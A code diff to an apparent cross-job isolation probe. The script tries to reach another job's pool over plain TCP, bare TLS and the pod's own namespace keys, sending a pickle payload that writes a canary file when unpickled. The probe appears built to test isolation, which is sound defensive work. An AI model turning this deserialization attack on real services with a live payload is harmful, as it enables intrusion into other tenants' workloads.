@@ -1,7 +1,7 @@
 """Tries to get into the pool of another job, and prints a line of JSON with what came of each try.
 
-Run in a pod with keys of its own pool as `python3 -c SOURCE HOST:PORT CANARY`. What it sends would write the
-file CANARY where it is unpickled.
+Run in a job's pod as `python3 -c SOURCE HOST:PORT CANARY`; in one that has keys of its namespace, it tries
+those too. What it sends would write the file CANARY where it is unpickled.
 """
 
 from __future__ import annotations
@@ -87,5 +87,6 @@ def attempt(way: Callable[[str, int, bytes], str], host: str, port: int, canary:
 if __name__ == "__main__":
     place, _, number = sys.argv[1].rpartition(":")
     evil = pickle.dumps(Canary(sys.argv[2]))
-    ways = (by_plain_tcp, by_bare_tls, by_own_keys)
+    own_keys = [by_own_keys] if "FRAY_POOL_KEY" in os.environ else []
+    ways = (by_plain_tcp, by_bare_tls, *own_keys)
     print(json.dumps({way.__name__: attempt(way, place, int(number), evil) for way in ways}), flush=True)
